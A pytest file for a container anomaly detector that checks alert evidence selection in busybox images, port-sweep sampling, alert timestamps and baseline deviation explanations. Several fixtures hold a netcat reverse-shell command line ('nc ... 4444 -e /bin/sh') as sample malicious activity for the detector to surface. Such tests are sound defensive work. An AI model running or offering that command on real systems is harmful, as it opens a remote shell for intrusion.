"""An anomaly alert shows the records that made its window anomalous, is stamped when the
deviation began, and keeps its window as its own field (issue 10 item 6).

From a blind replay: in a busybox image every applet's path is /bin/busybox, so matching "unseen:
nc" by path selected every process and the alert showed `sleep 5` instead of `nc ... -e /bin/sh`;
the alert for a lookup at 19:50:42 was stamped 19:49:54, its window's start.
"""
from __future__ import annotations

import numpy as np

from model.records import NetRecord, ProcessRecord
from scheduler.alerting.alerts import Alert
from scheduler.detect import rules
from scheduler.detect.candidate import ContainerRef


def busybox_proc(ts: float, pid: int, cmdline: str) -> ProcessRecord:
    return ProcessRecord(ts=ts, container_id="c", image="web:1", pid=pid, name="busybox",
                         path="/bin/busybox", cmdline=cmdline)


def conn(ts: float, port: int, addr: str = "10.0.0.9", state: str = "SF") -> NetRecord:
    return NetRecord(ts=ts, kind="conn", container_id="c", image="web:1", orig_h="172.17.0.3",
                     resp_h=addr, resp_p=port, proto="tcp", conn_state=state)


def test_unseen_executables_are_matched_by_argv0_not_by_the_busybox_path():
    procs = [busybox_proc(1.0, 10, "sleep 5"), busybox_proc(2.0, 11, "nslookup db"),
             busybox_proc(3.0, 12, "nc 10.0.0.9 4444 -e /bin/sh"), busybox_proc(4.0, 13, "sleep 5")]
    devs = [{"feature": "unseen_executables", "value": 1, "names": ["nc"]}]
    ev = rules.window_samples(procs, [], devs)
    assert [e["cmdline"] for e in ev if e["side"] == "host"] == ["nc 10.0.0.9 4444 -e /bin/sh"]


def test_a_port_sweep_shows_its_spread_not_five_packets_to_one_port():
    nets = [conn(1.0 + i * 0.01, 80) for i in range(10)]
    nets += [conn(2.0 + i * 0.01, 1000 + i, state="REJ") for i in range(20)]
    ev = rules.window_samples([], nets, [{"feature": "distinct_remote_ports", "value": 21}])
    ports = [e["summary"] for e in ev if e["side"] == "network"]
    assert len(ports) == rules.SAMPLES_PER_SIDE
    assert len(set(ports)) == len(ports)           # one sample per port
    ev = rules.window_samples([], nets, [{"feature": "failed_conns", "value": 20}])
    assert all("REJ" in e["summary"] for e in ev if e["side"] == "network")


def test_alert_time_is_the_first_deviating_evidence_and_the_window_is_its_own_field():
    ws, we = 1000.0, 1060.0
    cand = rules.anomaly(ws, "h", ContainerRef(id="c", name="web-2", image="web:1"), 2.0, 0.8,
                         [{"feature": "unseen_executables", "value": 1, "names": ["nc"]}],
                         window=(ws, we), top_feature="unseen_executables")
    cand.evidence.extend(rules.window_samples(
        [busybox_proc(1048.0, 1, "nc 10.0.0.9 4444 -e /bin/sh")], [],
        [{"feature": "unseen_executables", "value": 1, "names": ["nc"]}]))
    assert rules.first_evidence_time(cand.evidence, ws) == 1048.0
    assert rules.first_evidence_time([], ws) == ws       # no sample: the window start
    alert = Alert(id="x", time=1048.0, rule=cand.rule, severity="medium", title="t", host="h",
                  container=cand.container, evidence=cand.evidence,
                  details={"window": {"start": ws, "end": we}, "explanation": "e"})
    d = alert.to_dict()
    assert d["window"]["start_ts"] == ws and d["window"]["end_ts"] == we
    assert d["window"]["start"].endswith("Z") and "window" not in d["details"]


def test_fallback_explanations_do_not_list_less_than_usual_features():
    from model.baseline import ImageBaseline

    rng = np.random.default_rng(0)
    X = rng.normal(10.0, 1.0, size=(200, 3))
    m = ImageBaseline(feature_names=["a", "b", "c"]).fit(X)
    x = np.array([10.0, 0.0, 40.0])                    # b far below, c far above
    both = {d["feature"] for d in m.deviations(x)}
    above = {d["feature"] for d in m.deviations(x, above_only=True)}
    assert both == {"b", "c"} and above == {"c"}
